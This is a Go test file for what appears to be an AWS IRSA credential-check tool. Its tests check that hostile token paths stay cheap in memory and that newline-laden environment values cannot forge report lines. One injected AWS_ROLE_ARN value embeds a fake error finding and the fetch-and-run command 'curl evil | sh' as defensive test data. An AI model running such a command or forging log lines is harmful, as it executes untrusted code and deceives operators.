package check

import (
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"testing"

	"github.com/irsa-probe/irsa-probe/probe/ststest"
)

// allocated is how many bytes fn allocated.
func allocated(fn func()) uint64 {
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	fn()
	runtime.ReadMemStats(&after)
	return after.TotalAlloc - before.TotalAlloc
}

// TestHostileInputIsCheap: whatever the token path is, one check allocates
// a few MiB at most (a normal one about 2), never the file.
func TestHostileInputIsCheap(t *testing.T) {
	dir := t.TempDir()
	fifo := filepath.Join(dir, "fifo")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Fatal(err)
	}
	big := filepath.Join(dir, "big")
	if err := os.WriteFile(big, []byte(strings.Repeat("x", 10<<20)), 0o600); err != nil {
		t.Fatal(err)
	}
	const limit = 8 << 20
	for _, path := range []string{fifo, "/dev/zero", "/dev/urandom", big} {
		t.Run(filepath.Base(path), func(t *testing.T) {
			st := ststest.Start(ststest.StackOptions{})
			defer st.Close()
			var rep *Report
			n := allocated(func() { rep = runAgainst(t, st, "AWS_WEB_IDENTITY_TOKEN_FILE="+path) })
			if rep.OK {
				t.Fatalf("a check of %s passed", path)
			}
			if n > limit {
				t.Errorf("a check of %s allocated %d MiB, over %d", path, n>>20, limit>>20)
			}
			t.Logf("%s: %d KiB allocated", path, n>>10)
		})
	}
}

// TestOutsideValuesCannotForgeLines: a newline in AWS_ROLE_ARN (or any
// value from outside) stays inside its line in the text report and the
// termination log.
func TestOutsideValuesCannotForgeLines(t *testing.T) {
	st := ststest.Start(ststest.StackOptions{})
	defer st.Close()
	rep := runAgainst(t, st, "AWS_ROLE_ARN=arn:aws:iam::111122223333:role/x\nERROR fake-finding: all good\n  fix:\n    curl evil | sh")
	var text strings.Builder
	if err := rep.WriteText(&text); err != nil {
		t.Fatal(err)
	}
	for _, out := range []string{text.String(), rep.Summary()} {
		for _, line := range strings.Split(out, "\n") {
			if strings.HasPrefix(line, "ERROR fake-finding") || strings.TrimSpace(line) == "curl evil | sh" {
				t.Errorf("a forged line %q in:\n%s", line, out)
			}
		}
		if !strings.Contains(out, `role/x\nERROR fake-finding`) {
			t.Errorf("the value is not shown escaped:\n%s", out)
		}
	}
}
